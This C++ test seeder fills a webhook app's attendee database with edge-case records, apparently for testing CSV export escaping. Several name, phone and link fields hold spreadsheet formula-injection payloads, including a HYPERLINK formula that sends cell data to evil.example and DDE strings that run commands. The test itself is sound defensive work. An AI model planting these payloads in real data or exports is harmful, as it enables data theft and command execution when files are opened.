// SPDX-License-Identifier: GPL-3.0-or-later
#include "AttendeeSeeder.h"

#include "store/Schema.h"
#include "store/SqliteDatabase.h"
#include "store/StoreWriter.h"

#include <QTimeZone>

#include <atomic>

namespace hookdesk::test {
namespace {

AttendeeSeeder::Seed seed(const char *webinarId, const char *title, const char *recording,
                          const QString &name, const char *email, const QString &phone,
                          int deliveries = 1, bool isTest = false)
{
    AttendeeSeeder::Seed s;
    s.attendee.webinarId = QString::fromUtf8(webinarId);
    s.attendee.webinarTitle = QString::fromUtf8(title);
    s.attendee.recordingUrl = QString::fromUtf8(recording);
    s.attendee.name = name;
    s.attendee.email = QString::fromUtf8(email);
    s.attendee.phone = phone;
    s.attendee.isTest = isTest;
    s.attendee.rawPayload = "{}";
    s.deliveries = deliveries;
    return s;
}

QString u(const char *utf8)
{
    return QString::fromUtf8(utf8);
}

} // namespace

QList<AttendeeSeeder::Seed> AttendeeSeeder::trickySeeds()
{
    const char *a = "W-ALPHA";
    const char *aTitle = "Growth Masterclass, Part 1";
    const char *aLink = "https://replay.example/alpha?x=1&y=2";
    const char *b = "W-BETA";
    const char *bTitle = "The \"Secret\" Sauce\nQ&A";
    const char *bLink = "=HYPERLINK(\"http://evil.example\",\"replay\")";
    const char *c = "6149e10";
    const char *cTitle = "=SUM(1,2)";
    const char *cLink = "";

    QList<Seed> seeds = {
            seed(a, aTitle, aLink, u("Asha Rao"), "asha@example.com", u("+91 98765 43210")),
            seed(a, aTitle, aLink, u("Sharma, Priya"), "priya@example.com", u("+919876543210"), 2),
            seed(a, aTitle, aLink, u("Ravi \"RK\" Kumar"), "ravi@example.com", u("919876543210")),
            seed(a, aTitle, aLink, u("Line\nBreak"), "lf@example.com", u("09876543210")),
            seed(a, aTitle, aLink, u("Carriage\r\nReturn"), "crlf@example.com", u("(555) 123-4567")),
            seed(a, aTitle, aLink, u("Lone\rCR"), "cr@example.com", QString()),
            seed(a, aTitle, aLink, u("प्रिया शर्मा"), "hindi@example.com", u("+91-98765-43210")),
            seed(a, aTitle, aLink, u("فاطمة الزهراء"), "arabic@example.com", u("+971 50 123 4567")),
            seed(a, aTitle, aLink, u("Priya 🎉👩🏽‍💻"), "emoji@example.com", u("+1 (555) 010-9999")),
            seed(a, aTitle, aLink, u("=1+1"), "formula@example.com", u("=2+3")),
            seed(a, aTitle, aLink, u("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")"),
                 "link@example.com", QString()),
            seed(a, aTitle, aLink, u("=cmd|' /C calc'!A0"), "dde@example.com", QString()),
            seed(a, aTitle, aLink, u("+SUM(1,2)"), "plus@example.com", u("+cmd|' /C calc'!A0")),
            seed(a, aTitle, aLink, u("-Priya"), "minus@example.com", u("-2+3")),
            seed(a, aTitle, aLink, u("@priya_creates"), "at@example.com", u("@SUM(1,2)")),
            seed(a, aTitle, aLink, u("\t=1+1"), "tab@example.com", u("\t+91 98765 43210")),
            seed(a, aTitle, aLink, u("\r=1+1"), "crlead@example.com", QString()),
            seed(a, aTitle, aLink, u("  =1+1"), "space@example.com", u(" +91 1")),
            seed(a, aTitle, aLink, u("＝1+1"), "fullwidth@example.com", QString()),
            seed(a, aTitle, aLink, QString(), "empty@example.com", QString()),
            seed(a, aTitle, aLink, u("00123"), "number@example.com", u("1e5")),
            seed(a, aTitle, aLink, u("2026-01-02"), "date@example.com", u("12/05/2026")),
            seed(a, aTitle, aLink, u("1,5"), "decimal@example.com", u("3.14")),
            seed(a, aTitle, aLink, u("'quoted'"), "apostrophe@example.com", u("'+91")),
            seed(a, aTitle, aLink, u("  padded  "), "padded@example.com", u(" 98765 ")),
            seed(a, aTitle, aLink, u("\""), "quote@example.com", u("\"\"")),
            seed(a, aTitle, aLink, u("a;b;c"), "semicolon@example.com", QString()),
            seed(a, aTitle, aLink, u("Plus Mail"), "priya+news@example.com", QString()),
            seed(a, aTitle, aLink, u("Ünïcödé Ñame"), "UPPER@Example.COM", QString()),
            seed(b, bTitle, bLink, u("Asha Rao"), "asha@example.com", u("+91 98765 43210"), 3),
            seed(b, bTitle, bLink, u("Beta, Only"), "beta@example.com", u("+44 20 7946 0958")),
            seed(b, bTitle, bLink, u("Test Attendee"), "test@example.com", u("+1234567890"), 1, true),
            seed(c, cTitle, cLink, u("Numeric Webinar"), "numeric@example.com", u("0042")),
    };
    const QDateTime base(QDate(2026, 11, 27), QTime(4, 35, 44, 38), QTimeZone::utc());
    for (int i = 0; i < seeds.size(); ++i)
        seeds[i].firstReceived = base.addSecs(qint64(i) * 3600);
    return seeds;
}

bool AttendeeSeeder::write(const QString &databasePath, const QList<Seed> &seeds, QString *error)
{
    StoreWriter writer;
    StoreWriter::Options options;
    options.databasePath = databasePath;
    if (!writer.start(options, error))
        return false;
    std::atomic<int> failures{0};
    for (const Seed &s : seeds) {
        for (int d = 0; d < s.deliveries; ++d) {
            WriteRequest request;
            request.attendee = s.attendee;
            request.delivery.receivedAt = s.firstReceived.addSecs(60 * d);
            request.delivery.method = QStringLiteral("POST");
            request.delivery.path = QStringLiteral("/hooks/test");
            request.delivery.status = 200;
            request.delivery.body = s.attendee.rawPayload;
            request.done = [&failures](const WriteOutcome &outcome) {
                if (outcome.kind == WriteOutcome::Kind::Failed)
                    ++failures;
            };
            if (!writer.submit(std::move(request))) {
                *error = QStringLiteral("the writer refused a seed");
                return false;
            }
        }
    }
    writer.stop(); // writes everything queued first
    if (failures > 0) {
        *error = QStringLiteral("%1 seeds failed to store").arg(failures.load());
        return false;
    }
    return true;
}

bool AttendeeSeeder::bulk(const QString &databasePath, qint64 count, QString *error)
{
    SqliteDatabase db;
    if (!db.open(databasePath, SqliteDatabase::Mode::ReadWrite)) {
        *error = db.lastError().message;
        return false;
    }
    if (!Schema::prepareForWriting(db, error))
        return false;
    if (!db.exec(QStringLiteral("BEGIN"))) {
        *error = db.lastError().message;
        return false;
    }
    SqliteStatement insert(db, QStringLiteral(
            "INSERT INTO attendees (webinar_id, email, email_norm, name, phone, webinar_title, "
            "recording_url, first_received_at, last_received_at, delivery_count) "
            "VALUES (?1, ?2, ?2, ?3, ?4, ?5, ?6, ?7, ?7, ?8)"));
    const QDateTime base(QDate(2026, 1, 1), QTime(0, 0), QTimeZone::utc());
    for (qint64 i = 0; i < count; ++i) {
        const qint64 webinar = i % 50;
        insert.reset();
        insert.bind(1, QByteArray("6149b1e5612c4e5fd96041") + QByteArray::number(10 + webinar));
        insert.bind(2, QByteArray("attendee") + QByteArray::number(i) + "@example.com");
        insert.bind(3, QByteArray("Attendee Number ") + QByteArray::number(i));
        insert.bind(4, QByteArray("+91 98") + QByteArray::number(100000 + i % 900000) + " 43210");
        insert.bind(5, QByteArray("Growth Masterclass, Part ") + QByteArray::number(webinar));
        insert.bind(6, QByteArray("https://replay.example/webinars/") + QByteArray::number(webinar));
        insert.bind(7, isoTimestamp(base.addSecs(i)).toUtf8());
        insert.bind(8, 1 + i % 3);
        if (!insert.run()) {
            *error = db.lastError().message;
            db.exec(QStringLiteral("ROLLBACK"));
            return false;
        }
    }
    if (!db.exec(QStringLiteral("COMMIT"))) {
        *error = db.lastError().message;
        return false;
    }
    return true;
}

} // namespace hookdesk::test
